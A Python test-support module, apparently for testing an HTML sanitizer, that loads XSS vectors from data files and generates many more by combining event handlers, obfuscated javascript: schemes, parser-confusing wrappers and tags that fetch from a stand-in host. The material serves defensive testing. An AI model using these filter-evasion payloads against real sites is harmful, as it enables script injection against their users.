"""The attacks in ``tests/data/vectors``, and many more that come from multiplying their parts by each other.

``VECTORS`` are the written ones by family. :func:`multiplied` crosses elements and handlers with separators, quotation marks,
spellings of the script and surroundings in which parsers differ; another seed gives others. Whatever an attack does, it does
one of two things: it calls ``alert`` or asks an address elsewhere.
"""

from __future__ import annotations

import random
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path

FOLDER = Path(__file__).parent / "data" / "vectors"
RUN = "alert(1)"
ELSEWHERE = "http://elsewhere.test"
"""Where attacks lead when no server counts who asks."""

_ESCAPE = re.compile(r"\\(?:x([0-9a-f]{2})|u([0-9a-f]{4})|(.))")
_NAMED = {"n": "\n", "t": "\t", "r": "\r", "0": "\0"}


@dataclass(frozen=True)
class Vector:
    """An attack: ``text`` with ``%RUN%`` for a script and ``%OUT%`` for an address elsewhere."""

    family: str
    text: str

    def aimed(self, elsewhere: str = ELSEWHERE) -> str:
        """The attack with its script, and the address that it asks."""
        return self.text.replace("%RUN%", RUN).replace("%OUT%", elsewhere)

    def raw(self, elsewhere: str = ELSEWHERE) -> str:
        """A page that holds the attack as it is, where an attack of its family would stand."""
        return _RAW.get(self.family, "{0}").format(self.aimed(elsewhere))


_RAW: Mapping[str, str] = {
    "addresses": '<a href="{0}">Go</a>',
    "attributes": '<input value="{0}"><input value=\'{0}\'><input value={0}><img src="{0}" alt=\'{0}\'><a href="{0}">Go</a>',
    "machines": '{0}<script type="application/ld+json">{{"a":"{0}"}}</script>',
    "styles": "{0}<style>a{{color:{0}}}</style><style>{0}</style><a>x</a>",
}


def _unescaped(line: str) -> str:
    def character(found: re.Match[str]) -> str:
        code = found.group(1) or found.group(2)
        return chr(int(code, 16)) if code else _NAMED.get(found.group(3), found.group(3))

    return _ESCAPE.sub(character, line).encode("utf-16", "surrogatepass").decode("utf-16", "replace")


@cache
def written() -> tuple[Vector, ...]:
    """Every attack of the files, by family and in their order."""
    return tuple(
        Vector(file.stem, _unescaped(line))
        for file in sorted(FOLDER.glob("*.txt"))
        for line in file.read_text("utf-8").split("\n")
        if line.strip() and not _is_remark(line)
    )


def _is_remark(line: str) -> bool:
    return line.startswith("# ") and "<" not in line


# --- multiplied ----------------------------------------------------------------------------------------------------

_SEPARATORS = (" ", "/", "\n", "\t", "\r", "\x0c", " / ", "\r\n\t ", "/\n/", " x=y ", " x='>' ", ' "', " `=` ")
_QUOTES = ('"', "'", "")
_SCRIPTS = (
    *("%RUN%", "alert`1`", "top.alert(1)", "self['alert'](1)", "window['al'+'ert'](1)", "[1].find(alert)"),
    *("&#97;lert(1)", "&#x61lert(1)", "al&#101;rt&lpar;1&rpar;", "\\u0061lert(1)", "a\\u{6c}ert(1)", "eval('ale'+'rt(1)')"),
    *("(alert)(1)", "/x/,alert(1)", "x=alert;x(1)", "alert&#40;1&#41;", "//&#10;alert(1)", "{alert(1)}", "0?0:alert(1)"),
    *("setTimeout(alert)", "Function('alert(1)')()", "import('data:text/javascript,alert(1)')", "void alert(1)", "!alert(1)"),
)
_STARTING = (  # an element, what it has to have, the handlers that start by themselves or by a hand
    *(("img", "src=x", "onerror"), ("img", "srcset=x", "onerror"), ("svg", "", "onload"), ("body", "", "onload")),
    *(("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("video", "src=x", "onloadstart"), ("iframe", "", "onload")),
    *(("input", "autofocus", "onfocus"), ("details", "open", "ontoggle"), ("textarea", "autofocus", "onfocus")),
    *(("select", "autofocus", "onfocus"), ("button", "autofocus", "onfocus"), ("object", "data=x:x", "onerror")),
    *(("style", "", "onload"), ("link rel=stylesheet", "href=x:x", "onerror"), ("input type=image", "src=x", "onerror")),
    *(("image", "src=x", "onerror"), ("p", "tabindex=1 autofocus", "onfocus"), ("xss", "tabindex=1 autofocus", "onfocus")),
    *(("svg", "tabindex=1", "onfocusin"), ("embed", "src=x:x", "onclick"), ("body", "", "onpageshow")),
)
_BY_HAND = (
    *("onclick", "onmouseover", "onpointerdown", "onkeydown", "oncopy", "onpaste", "ondragstart", "ondrop", "onwheel", "oninput"),
    *("onauxclick", "oncontextmenu", "ondblclick", "onmousemove", "onfocusin", "onbeforeinput", "ontouchstart", "onscroll"),
    *("onpointerrawupdate", "onselectstart", "onchange", "oninvalid", "onreset", "onsubmit", "onsearch", "ongotpointercapture"),
    *("onanimationend", "ontransitionend", "onbeforematch", "oncommand", "onsecuritypolicyviolation", "onslotchange"),
)
_HAND_ELEMENTS = (
    "p",
    "a",
    "b",
    "div",
    "xss",
    "q",
    "td",
    "h2",
    "svg",
    "math",
    "marquee",
    "form",
    "font",
    "center",
    "cite",
    "span",
)
_LEADING = (
    *(
        '<a href="{0}">Go</a>',
        "<a href='{0}'>Go</a>",
        '<form action="{0}"><button>Go</button></form>',
        "<svg><a href='{0}'><text>Go",
    ),
    *('<form><button formaction="{0}">Go</button></form>', '<iframe src="{0}"></iframe>', '<svg><a xlink:href="{0}"><text>Go'),
    *(
        '<object data="{0}"></object>',
        '<embed src="{0}">',
        '<area href="{0}">',
        '<math href="{0}">Go',
        '<base href="{0}"><a href=#>Go',
    ),
    *("<svg><a><set attributeName=href to='{0}' /><text>Go", '<input form=f formaction="{0}" type=submit><form id=f></form>'),
)
_SCHEMES = (
    *(
        "javascript:",
        "JavaScript:",
        "jAvAsCrIpT:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "java\rscript:",
    ),
    *(
        "javascript&colon;",
        "&#106;avascript:",
        "java&Tab;script:",
        "java&NewLine;script:",
        "&#x6a;avascript&#58;",
        "\x1fjavascript:",
    ),
    *("javascript:/**/", "javascript:%0a", "javascript://x%0a", "&#14;javascript:", "javascrip&#116;:", "\tj\na\rv\tascript:"),
)
_ASKING = (
    *(
        "<img src={0}>",
        '<img srcset="{0} 1x">',
        '<link rel=stylesheet href="{0}">',
        "<video poster='{0}'></video>",
        "<script src={0}></script>",
    ),
    *(
        "<iframe src={0}></iframe>",
        "<object data={0}></object>",
        "<embed src={0}>",
        "<table background={0}>",
        "<input type=image src={0}>",
    ),
    *(
        "<svg><image href={0} />",
        "<svg><image xlink:href={0} />",
        "<style>@import '{0}'</style>",
        "<style>*{{background:url({0})}}</style>",
    ),
    *("<p style='background:url({0})'>x", "<picture><source srcset={0}><img></picture>", "<audio src={0} autoplay></audio>"),
    *(
        "<link rel=preload as=image href={0}>",
        "<link rel=prefetch href={0}>",
        "<link rel=icon href={0}>",
        "<body background={0}>",
    ),
    *(
        "<video src={0} autoplay></video>",
        "<meta http-equiv=refresh content='0;url={0}'>",
        "<style>*{{content:url({0})}}</style>",
    ),
)
_SURROUNDINGS = (
    *(
        "{0}",
        '"{1}',
        "'{1}",
        '"/>{0}',
        "</title>{0}",
        "</textarea>{0}",
        "</style>{0}",
        "</script>{0}",
        "</noscript>{0}",
        "</xmp>{0}",
    ),
    *("-->{0}", "--!>{0}", "<!-->{0}", "<!--x--!>{0}", "]]>{0}", "<![CDATA[]]>{0}", "<?x>{0}", "<!x>{0}", "</x x='>{0}'>{0}"),
    *(
        "<table>{0}</table>",
        "<table><tr>{0}</table>",
        "<select></select>{0}",
        "<b><p></b>{0}</p>",
        "<a><a>{0}",
        "<form><form>{0}",
    ),
    *(
        "<svg></p>{0}",
        "<svg><desc>{0}</desc></svg>",
        "<svg><title>{0}</title></svg>",
        "<svg><foreignObject>{0}</foreignObject></svg>",
    ),
    *("<math><mi>{0}</mi></math>", "<math><annotation-xml encoding=text/html>{0}</annotation-xml></math>", "<math></p>{0}"),
    *("<svg><style>{0}</style></svg>", "<math><style>{0}</style></math>", "<svg><p>{0}", "<noscript><p title='</noscript>{1}'>"),
    *(
        '<style><a title="</style>{0}">',
        "<template></template>{0}",
        "<p>The ferry was late. {0} Nobody minded.</p>",
        "<ul><li>{0}</ul>",
    ),
    *("<blockquote><p>{0}</p></blockquote>", "<h2>{0}</h2>", "<article><p>{0}</p></article>", "<div hidden></div>{0}", "{0}{0}"),
    *(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{2}'>{0}",
        "<iframe></iframe>{0}",
        "\0{0}",
        "\ufeff{0}",
        "\u202e{0}",
    ),
    *(
        "<ruby><rt>{0}",
        "<frameset></frameset>{0}",
        "<dl><dt>{0}",
        "<details open><summary>{0}",
        "<button><button>{0}",
        "<nobr><nobr>{0}",
    ),
)


def multiplied(many: int, seed: int = 0) -> tuple[Vector, ...]:
    """``many`` different attacks, the same ones for the same seed."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < many:
        found[_wrapped(chance, chance.choice(_MAKERS)(chance))] = None
    return tuple(Vector("multiplied", text) for text in found)


def _wrapped(chance: random.Random, core: str) -> str:
    around = chance.choice(_SURROUNDINGS)
    escaped = core.replace("<", "&lt;").replace(">", "&gt;")
    return around.replace("{0}", core).replace("{1}", f">{core}").replace("{2}", escaped)


def _cased(chance: random.Random, name: str) -> str:
    return chance.choice((name, name, name.upper(), name.title(), "".join(chance.choice((a, a.upper())) for a in name)))


def _handled(chance: random.Random, element: str, needed: str, handler: str) -> str:
    separator, quote = chance.choice(_SEPARATORS), chance.choice(_QUOTES)
    script = chance.choice(_SCRIPTS)
    if not quote or quote in script:
        quote, script = ("", script) if not re.search(r"[\s\"'`=<>]", script) else ("", "%RUN%")
    equals = chance.choice(("=", "=", " = ", "\n=", "=\t"))
    return f"<{_cased(chance, element)}{separator}{needed} {_cased(chance, handler)}{equals}{quote}{script}{quote} >"


def _starting(chance: random.Random) -> str:
    return _handled(chance, *chance.choice(_STARTING))


def _by_hand(chance: random.Random) -> str:
    return f"{_handled(chance, chance.choice(_HAND_ELEMENTS), 'tabindex=1', chance.choice(_BY_HAND))}x"


def _leading(chance: random.Random) -> str:
    return chance.choice(_LEADING).format(f"{chance.choice(_SCHEMES)}%RUN%")


def _asking(chance: random.Random) -> str:
    return chance.choice(_ASKING).format(f"%OUT%/{chance.randrange(10**6)}")


def _plain(chance: random.Random) -> str:
    script = chance.choice([script for script in _SCRIPTS if "&" not in script])
    opening, closing = _cased(chance, "script"), _cased(chance, "script")
    return f"<{opening}{chance.choice(('', ' ', chr(10), '/', ' x'))}>{script}</{closing}{chance.choice(('', ' ', chr(9)))}>"


_MAKERS = (_starting, _starting, _starting, _by_hand, _leading, _asking, _plain)


def batches(vectors: tuple[Vector, ...], size: int) -> Iterator[tuple[Vector, ...]]:
    """The vectors, ``size`` at a time."""
    for at in range(0, len(vectors), size):
        yield vectors[at : at + size]
